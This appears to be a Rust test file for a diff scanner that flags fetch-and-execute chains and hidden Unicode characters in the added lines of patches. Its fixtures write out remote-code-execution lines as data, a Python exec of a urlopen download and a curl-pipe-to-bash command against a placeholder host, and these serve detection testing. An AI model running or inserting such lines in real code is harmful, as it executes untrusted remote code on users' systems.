//! Added lines of diffs.

use code_signals::{AddedLines, Severity, UnreadReason, analyze_added};
use proptest::prelude::*;

fn worst(path: &str, patch: &str) -> Option<Severity> {
    analyze_added(&[AddedLines::parse(path, patch)]).worst()
}

#[test]
fn a_chain_in_added_lines_is_reported_at_its_line_in_the_new_file() {
    let patch = "@@ -10,2 +10,5 @@ import os\n import os\n import urllib.request as u\n+def helper():\n+    pass\n+exec(u.urlopen('https://host.example.dev/x').read())\n";
    let report = analyze_added(&[AddedLines::parse("tool/run.py", patch)]);
    assert_eq!(report.worst(), Some(Severity::High), "{:?}", report.chains);
    assert_eq!(report.chains[0].sink.line, 14);
}

#[test]
fn a_chain_that_was_there_before_is_not_part_of_the_change() {
    let patch = "@@ -1,2 +1,3 @@\n import urllib.request as u\n exec(u.urlopen('https://host.example.dev/x').read())\n+print('done')\n";
    assert_eq!(worst("run.py", patch), None);
    let removed = "@@ -1,2 +1,1 @@\n import urllib.request as u\n-exec(u.urlopen('https://host.example.dev/x').read())\n";
    assert_eq!(worst("run.py", removed), None);
}

#[test]
fn a_chain_is_found_in_the_middle_of_an_indented_block() {
    let patch = "@@ -40,3 +40,6 @@ def start(self):\n         self.ready = True\n+        import urllib.request as u\n+        code = u.urlopen('https://host.example.dev/x').read()\n+        exec(code)\n         return self\n     \n";
    assert_eq!(worst("app/service.py", patch), Some(Severity::High));
    let script = "@@ -3,0 +4,2 @@\n+curl -fsSL https://host.example.dev/x.sh | bash\n";
    assert!(worst("scripts/setup.sh", script) >= Some(Severity::High));
    let go = "@@ -9,2 +9,4 @@ func start() {\n \tlog.Print(\"a\")\n+\tlog.Print(\"b\")\n";
    assert_eq!(worst("main.go", go), None);
}

#[test]
fn ordinary_changes_have_no_chain_and_no_unread_code() {
    for (path, patch) in [
        (
            "a.py",
            "@@ -5,3 +5,4 @@\n     def size(self):\n-        return 1\n+        return len(self.items)\n+\n",
        ),
        ("web/app.ts", "@@ -1,2 +1,3 @@\n import { a } from './a';\n+export const b = a(1);\n"),
        ("lib/x.rb", "@@ -7,1 +7,2 @@\n   def x\n+    @x ||= 1\n"),
        ("README.md", "@@ -1 +1,2 @@\n # Tool\n+Run `curl https://example.com`.\n"),
    ] {
        let report = analyze_added(&[AddedLines::parse(path, patch)]);
        assert!(report.chains.is_empty() && report.unread.is_empty(), "{path}: {report:?}");
    }
}

#[test]
fn hidden_characters_are_found_in_added_lines_of_any_text() {
    let hidden: String = (0..20).map(|_| '\u{E0041}').collect();
    let patch = format!("@@ -1 +1,2 @@\n # Tool\n+Text{hidden}\n");
    assert!(AddedLines::parse("README.md", &patch).has_hidden_characters());
    let reordered = "@@ -1 +1,2 @@\n a\n+let access = \"user\u{202E}\";\n";
    assert!(AddedLines::parse("main.rs", reordered).has_hidden_characters());
    let before = format!("@@ -1 +1,2 @@\n # Tool{hidden}\n+Text\n");
    assert!(!AddedLines::parse("README.md", &before).has_hidden_characters());
    assert!(!AddedLines::parse("de.md", "@@ -0,0 +1 @@\n+Grüße, naïve café 👩‍💻 ❤️\n").has_hidden_characters());
}

#[test]
fn text_that_is_no_unified_diff_is_unread() {
    for patch in ["x = 1\n", "@@ -1 +x @@\n+a\n", "@@ -1 +1 @@\n+a\n*b\n", "@@ -1 +99999999999 @@\n+a\n"] {
        let lines = AddedLines::parse("a.py", patch);
        assert!(!lines.is_complete(), "{patch}");
        let report = analyze_added(&[lines]);
        assert!(report.unread.iter().any(|unread| unread.reason == UnreadReason::Diff), "{patch}");
    }
    assert!(AddedLines::parse("a.py", "").is_complete());
    let far = AddedLines::parse("a.py", "@@ -1 +4294967295 @@\n+a\n+b\n\\ No newline at end of file\n");
    assert_eq!(far.texts().collect::<Vec<_>>(), [b"a", b"b"]);
}

proptest! {
    #[test]
    fn any_patch_is_read_within_its_own_size(patch in "(@@ -1 \\+1 @@\n)?([-+ @\\\\]?[a-z(){}:\"' \t]{0,20}\n){0,30}") {
        let lines = AddedLines::parse("a.py", &patch);
        prop_assert!(lines.texts().map(<[u8]>::len).sum::<usize>() <= patch.len());
        let report = analyze_added(std::slice::from_ref(&lines));
        prop_assert_eq!(&report, &analyze_added(&[lines]));
    }
}
